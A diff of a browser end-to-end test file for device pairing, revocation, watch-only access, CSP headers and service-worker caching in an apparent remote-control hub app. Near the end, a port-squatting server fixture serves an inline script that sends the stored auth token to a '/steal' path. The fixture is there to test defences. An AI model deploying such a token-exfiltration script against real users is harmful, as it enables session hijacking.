@@ -50,6 +50,12 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     return url;
   }
 
+  /** A pairing code made by a local tool (the machine token); returns its URL. */
+  async function toolCode(scope = 'full') {
+    const c = await stack.api('/api/pairing', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ scope }) });
+    return c.url;
+  }
+
   /** A fresh phone (no credential) that opens `url`; waits for the home screen. */
   async function pairedBy(url, scheme = 'light') {
     const page = await phonePage(browser, scheme);
@@ -62,8 +68,6 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     token: localStorage.getItem('zcode-acp.token'), device: JSON.parse(localStorage.getItem('zcode-acp.device') || 'null'),
   }));
 
-  let phone; // paired by code in the first test
-
   it('pairs a phone by a one-time code: its own credential, the code gone from the address bar, a second use refused in words', async () => {
     const url = await newCode('full');
     // The QR code of that very link is drawn in the page.
@@ -71,7 +75,7 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     assert.ok((await admin.locator('#pair-qr svg.qr path').getAttribute('d')).length > 500);
     await looksRight(admin, 'devices-pair-code', { fullPage: true });
 
-    phone = await pairedBy(url);
+    const phone = await pairedBy(url);
     assert.equal(new URL(phone.url()).hash, '', 'the code left the address bar');
     const mine = await stored(phone);
     assert.ok(mine.token && mine.token !== stack.token, 'the phone keeps a credential of its own, not the machine token');
@@ -99,9 +103,11 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     assert.equal(await phone.locator(`#device-list li[data-device="${mine.device.id}"] .revoke`).count(), 0, 'no Remove for itself');
     await phone.locator('#audit-list li[data-action="pair"]').first().waitFor();
     await looksRight(phone, 'devices-screen', { fullPage: true });
+    await phone.context().close();
   });
 
   it('removing a device closes its live session at once; that phone says it was removed and pairs again', async () => {
+    const phone = await pairedBy(await toolCode('full'));
     const { device: me } = await stored(phone);
     await phone.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
     await phone.locator('#conn[data-state="open"]').waitFor();
@@ -134,6 +140,7 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     await phone.locator('#instances').waitFor();
     const again = await stored(phone);
     assert.ok(again.token && again.device.id !== me.id && !again.device.removed);
+    await phone.context().close();
   });
 
   it('a watch-only device sees the session but is not offered sending, stopping or answering', async () => {
@@ -169,7 +176,7 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     await watcher.context().close();
   });
 
-  it('the page carries a strict policy, and its service worker keeps and serves only the hub\'s own bytes', async () => {
+  it('the page carries a strict policy, in its header and in the page itself', async () => {
     const r = await stack.fetch('/');
     const csp = r.headers.get('content-security-policy');
     for (const d of ["script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"]) assert.ok(csp.includes(d), `${d} in ${csp}`);
@@ -178,7 +185,14 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     await page.goto(`${stack.base}/`);
     await page.locator('#instances').waitFor();
     const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
-    assert.ok(meta.includes("script-src 'self'") && meta.includes("object-src 'none'"), meta);
+    assert.ok(meta && meta.includes("script-src 'self'") && meta.includes("object-src 'none'"), meta);
+    await page.context().close();
+  });
+
+  it('the service worker keeps and serves only the hub\'s own bytes when someone else answers on its port', async () => {
+    const page = await phonePage(browser, 'light', stack.token);
+    await page.goto(`${stack.base}/`);
+    await page.locator('#instances').waitFor();
     await page.evaluate(() => navigator.serviceWorker.ready);
     await until('the page controlled by the worker', () => page.evaluate(() => Boolean(navigator.serviceWorker.controller)));
     const cachedPolicy = await page.evaluate(async () => {
@@ -188,8 +202,11 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     });
     assert.ok(cachedPolicy && cachedPolicy.includes("script-src 'self'"), `the cached page keeps the policy: ${cachedPolicy}`);
 
-    // The hub stops; someone else takes its port and answers everything with its own page.
+    // The hub stops (its bridge first: it would start a hub of its own again); someone else
+    // takes its port and answers everything with its own page.
+    await ed.close();
     await stack.stopHub();
+    stack.killSpawnedHub();
     const squatter = http.createServer((req, res) => {
       res.writeHead(200, { 'Content-Type': 'text/html' });
       res.end('<!doctype html><title>squatter</title><p id="squatter">SQUATTER</p><script>fetch("/steal?t="+localStorage.getItem("zcode-acp.token"))</script>');
